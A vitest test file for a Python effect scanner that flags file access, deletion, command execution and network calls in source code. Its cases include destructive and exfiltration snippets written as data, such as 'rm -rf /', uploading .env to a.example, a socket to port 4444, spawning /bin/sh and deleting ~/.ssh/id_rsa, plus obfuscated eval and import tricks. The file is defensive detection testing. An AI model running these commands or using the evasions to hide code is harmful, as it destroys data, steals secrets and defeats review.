import { assert, array, constantFrom, property, string } from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { loadPythonParser } from '../../../../../packages/effects/src/code/python/parser.ts';
import { scanPython } from '../../../../../packages/effects/src/code/python/scan.ts';
import type { CodeContext } from '../../../../../packages/effects/src/code/calls.ts';
import type { PythonParser } from '../../../../../packages/effects/src/code/python/parser.ts';
import { codeContext, showEffect } from '../../showEffect.ts';
import { boundedCost } from '../../../../support/boundedCost.ts';

let parser: PythonParser;
beforeAll(async () => {
  parser = await loadPythonParser();
});

const context: CodeContext = codeContext('python', (_language, source) => scanPython(source, context, parser));
const effectsOf = (source: string): string[] => [...new Set(scanPython(source, context, parser).map(showEffect))];

describe('scanPython', () => {
  test.each<readonly [string, readonly string[]]>([
    [`import sys\nopen(sys.argv[1]).read()`, ['read path:a file known only at run time ?']],
    [`open(f'.env.{name}').read()`, ['read path:a file known only at run time ?', 'read path:.env.* ?']],
    [`open(''.join(map(chr, [46, 101]))).read()`, ['unknown !']],
    [`open(''.join(chr(c) for c in [46, 101])).read()`, ['unknown !']],
    [
      `from pathlib import Path\nfor p in [*Path('a').rglob('*.ts')]: p.write_text(p.read_text())`,
      ['write /w/a/**/*.ts ?', 'read /w/a/**/*.ts ?'],
    ],
    [`from pathlib import Path\nfor p in Path('a').rglob('*.ts'): p.write_text('')`, ['write /w/a/**/*.ts ?', 'unknown ? !']],
    [`import os\nfor r, d, fs in os.walk('a'):\n  for f in fs: open(os.path.join(r, f))`, ['read /w/a ?', 'read /w/a/**/* ?']],
    [`import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:8000/{i}')`, ['network download 127.0.0.1']],
    [`import os\nprint(os.popen('id').name)`, ['execute [id]']],
    [`import os; os.system("rm -rf /")`, ['execute [rm -rf /]']],
    [`import os as o\no.system('id')`, ['execute [id]']],
    [`from os import system as s\ns('id')`, ['execute [id]']],
    [`from os import *\nsystem('id')`, ['execute [id]']],
    [`import posix\nposix.system('id')`, ['execute [id]']],
    [`import shutil\nshutil.os.system('id')`, ['execute [id]']],
    [`__import__('os').system('id')`, ['execute [id]']],
    [`__import__('o' + 's').system('i' 'd')`, ['execute [id]']],
    [`import importlib\nimportlib.import_module('os').system('id')`, ['execute [id]']],
    [`import os\ngetattr(os, 'sys' + 'tem')('id')`, ['execute [id]']],
    [`import os\ngetattr(os, name)('id')`, ['unknown !']],
    [`import os\nos.__dict__['system']('id')`, ['execute [id]']],
    [`import sys\nsys.modules['os'].system('id')`, ['execute [id]']],
    [`globals()['__builtins__'].eval('1')`, []],
    [`__builtins__.__dict__['ev' + 'al']("__import__('os').system('id')")`, ['execute [id]']],
    [`import os\nx = os.system\nx('id')`, ['execute [id]']],
    [`import os\na, b = os.system, print\na('id')`, ['unknown !', 'execute [id]']],
    [`(b := eval)("__import__('os').system('id')")`, ['execute [id]']],
    [`[*eval("__import__('os').system('id')")]`, ['execute [id]']],
    [`(eval)("__import__('os').system('id')")`, ['execute [id]']],
    [`ｅｖａｌ("__import__('os').system('id')")`, ['execute [id]']],
    [`exec(compile("import os; os.system('id')", 'x', 'exec'))`, ['unknown !', 'execute [id]']],
    [`eval(x)`, ['unknown !']],
    [`@exec\n@input\ndef f(): pass`, ['unknown !']],
    [`list(map(eval, xs))`, ['unknown !']],
    [`class X:\n  __add__ = exec`, ['unknown !']],
    [`def f(a=exec): a('1')`, ['unknown ? !']],
    [`f = lambda: eval`, ['unknown ? !']],
    [`().__class__.__bases__[0].__subclasses__()`, ['unknown !']],
    [`f.__globals__['os']`, ['unknown !']],
    [`import subprocess\nsubprocess.run(['rm', '-rf', '/a b'])`, [`execute [rm -rf '/a b']`]],
    [`import subprocess\nsubprocess.run('rm -rf / | x', shell=True)`, ['execute [rm -rf / | x]']],
    [`import subprocess as sp\nsp.Popen(args=['id'])`, ['execute [id]']],
    [`from subprocess import check_output\ncheck_output(cmd)`, ['unknown !']],
    [`import subprocess\nargs = ['rm']\nargs.append('/')\nsubprocess.run(args)`, ['execute [rm]', 'unknown !']],
    [`import os\nos.execvp('rm', ['rm', '-rf', '/'])`, ['execute [rm -rf /]']],
    [`import pty; pty.spawn('/bin/sh')`, ['execute [/bin/sh]', 'unknown !']],
    [`open('a', 'w').write('x')`, ['write /w/a']],
    [`with open("a", mode="a") as f: f.write('x')`, ['read /w/a', 'write /w/a']],
    [`print(open('/etc/passwd').read())`, ['read /etc/passwd']],
    [`open(name, 'w')`, ['unknown !']],
    [`open('a', mode)`, ['read /w/a', 'write /w/a']],
    [`import shutil\nshutil.rmtree(path='/a')`, ['delete /a/**']],
    [`import os\nos.remove(path='/a')`, ['delete /a']],
    [`import os\nos.replace(src='/a', dst='/b')`, ['read /a', 'delete /a', 'write /b']],
    [`import shutil\nshutil.copytree(src='/a', dst='/b')`, ['read /a/** ?', 'write /b/** ?']],
    [`import shutil, os\nshutil.rmtree(os.path.join('/', 'home', f'{"u"}'))`, ['delete /home/u/**']],
    [`import os\nos.remove(os.path.expanduser('~/.ssh/id_rsa'))`, ['delete /home/u/.ssh/id_rsa']],
    [`from pathlib import Path\n(Path('/etc') / 'hosts').write_text('x')`, ['write /etc/hosts']],
    [`from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('x')`, ['write /home/u/.bashrc']],
    [`from pathlib import Path\nfor p in Path('.').glob('*'): p.unlink()`, ['delete /w/* ?', 'delete /w/.* ?']],
    [`import pathlib\npathlib.Path('a').rename('b')`, ['read /w/a', 'delete /w/a', 'write /w/b']],
    [`import os\nfor f in ['a', 'b']: os.remove(f)`, ['delete /w/a ?', 'delete /w/b ?']],
    [`import os\n[os.unlink(f) for f in ('a', 'b')]`, ['delete /w/a ?', 'delete /w/b ?']],
    [`import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))`, ['network both 10.0.0.1']],
    [`import requests\nrequests.get('https://a.example/x')`, ['network download a.example']],
    [
      `import requests\nrequests.post('https://a.example', data=open('.env').read())`,
      ['network upload a.example', 'read /w/.env'],
    ],
    [`import urllib.request as r\nr.urlopen('http://a.example').read()`, ['network download a.example']],
    [`import urllib.request\nurllib.request.urlopen(url, data=b'x')`, ['network upload * !']],
    [`import http.server\nhttp.server.HTTPServer(('', 1), None)`, ['network listen *']],
    [`import pickle\npickle.loads(x)`, ['unknown !']],
    [`import ctypes\nctypes.CDLL(None).system(b'id')`, ['unknown !']],
    [`import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))`, ['execute [id]']],
    [`exec(''.join([chr(112), 'ass']))`, []],
    [`exec("ssap"[::-1])`, []],
    [`import codecs\nexec(codecs.decode('cnff', 'rot13'))`, []],
    [`exec('\\x70ass')`, []],
    [`exec("%s" % x)`, ['unknown !']],
    [`import os\nos.kill(1, 9)`, ['delete process:process']],
    [`import os\nos.environ.update(PATH='x')`, ['environment variable:environment']],
    ['# coding: utf-7\nx = 1', ['unknown !']],
    ['#!/usr/bin/python\n# vim: set fileencoding=rot13 :\nx = 1', ['unknown !']],
    ['exec "x"', ['unknown !']],
    [`helper(__import__('os'))`, ['unknown !']],
    [`with __import__('os') as o: o.system('id')`, ['execute [id]']],
    [`getattr(getattr(__builtins__, '__im' + 'port__')('os'), 'sys' 'tem')('id')`, ['execute [id]']],
    [`import os\n(lambda f: f('id'))(os.system)`, ['unknown !']],
    [`import os\ntype('X', (), {'run': os.system})`, ['unknown !']],
    [`import subprocess\nsubprocess.Popen(**{'args': ['id']})`, ['execute [id]']],
    [`globals()['os'].system('id')`, ['execute [id]']],
    [`import os, sys\n(os if x else sys).system('id')`, ['execute [id]']],
    [`import os\nos.system.__call__('id')`, ['execute [id]']],
    [`from subprocess import *\nrun(['id'])`, ['execute [id]']],
    [`import os\nos.environ['LD_PRELOAD'] = 'x'`, ['environment variable:LD_PRELOAD']],
    [`import os\ndef f():\n  global s\n  s = os.system\nf()\ns('id')`, ['execute [id]']],
    [`import os\ndef f():\n  s = print\n  def g():\n    nonlocal s\n    s = os.system\n  g()\n  s('id')`, ['execute [id] ?']],
    ['def f(:', ['unknown !']],
    ['match x:\n  case 1:\n    import os; os.system("id")', ['execute [id] ?']],
    ['try:\n  pass\nexcept* E:\n  import os; os.system("id")', ['execute [id] ?']],
    ['type X[T] = int\ndef f[T](x: T): import os; os.system("id")', ['execute [id] ?']],
    [`f"{__import__('os').system('id')}"`, ['execute [id]']],
    [`f"{1:{__import__('os').system('id')}}"`, ['execute [id]']],
    [`import antigravity`, ['network download *']],
  ])('%s', (source, effects) => {
    expect(effectsOf(source)).toEqual(effects);
  });

  test.each([
    `print("import os; os.system('rm -rf /')")  # eval(x)`,
    `"""os.system('x')"""\nx = 'eval'`,
    `import json, sys\nprint(json.dumps({'a': 1}), sys.argv[1:], sys.version)`,
    `import re\nre.compile('x').match('y')`,
    `class A:\n  def remove(self): pass\nA().remove()`,
    `def eval_model(x): return x\neval_model(1)`,
    `def open_it(): return 1\nfor i in range(3): print(i, open_it())`,
    `import os\nprint(os.path.exists('x'), os.getcwd(), os.environ.get('HOME'))`,
    `import math\nprint([math.sqrt(x) for x in range(10) if x % 2])`,
    `import numpy as np\nnp.array([1, 2]).sum()`,
    `x = {'a': 1}\nx['a'](1)`,
    `print(type(x).__name__, x.__class__.__name__, x.__dict__)`,
    `def exec(x): return x\nexec('import os')`,
    `# -*- coding: utf-8 -*-\nx = 1`,
  ])('finds nothing in %s', source => {
    expect(effectsOf(source)).toEqual([]);
  });

  test('ends for every text', () => {
    const piece = constantFrom(
      'import os',
      '\n',
      ' ',
      'os.',
      'system',
      '(',
      ')',
      '"x"',
      'eval',
      '[',
      ']',
      ':',
      'def f',
      'class A',
      '=',
      'f"{',
      '}"',
      '@',
      '*',
      'lambda',
      '\u0000',
      '\ud800',
      '    ',
      'with ',
      'for x in ',
    );
    assert(
      property(array(piece, { maxLength: 30 }), string({ unit: 'binary' }), (parts, noise) => {
        expect(Array.isArray(scanPython(parts.join(''), context, parser))).toBe(true);
        expect(Array.isArray(scanPython(noise, context, parser))).toBe(true);
      }),
      { numRuns: process.env['LICET_FUZZ'] === undefined ? 500 : 20_000 },
    );
  });

  test.each([
    ['nested parentheses', '('.repeat(20_000) + 'eval(x)' + ')'.repeat(20_000)],
    ['open parentheses', '('.repeat(50_000)],
    [
      'deep indentation',
      Array.from({ length: 90 }, (_, at) => `${' '.repeat(at)}if x:`).join('\n') + `\n${' '.repeat(90)}eval(x)`,
    ],
    ['a long sum', `open(${'"a"+'.repeat(10_000)}"b")`],
    [
      'a chain of names',
      `import os\na0=os.system\n${Array.from({ length: 700 }, (_, at) => `a${at + 1}=a${at}\n`).join('')}a700('id')`,
    ],
    [
      'many meanings of a name',
      `import os\n${Array.from({ length: 40 }, (_, at) => `x="${at}"\n`).join('')}x=os.system\nx('id')`,
    ],
    ['names that refer to each other', 'a=b;b=c;c=a;__import__(a).x(b)'],
    ['many calls', 'import os\nos.remove("a")\n'.repeat(3000)],
    ['too much text', 'x\n'.repeat(200_000)],
  ])('is bounded for %s', (_name, source) => {
    const within = boundedCost();
    expect(effectsOf(source).length).toBeGreaterThan(0);
    within(1000);
  });
});
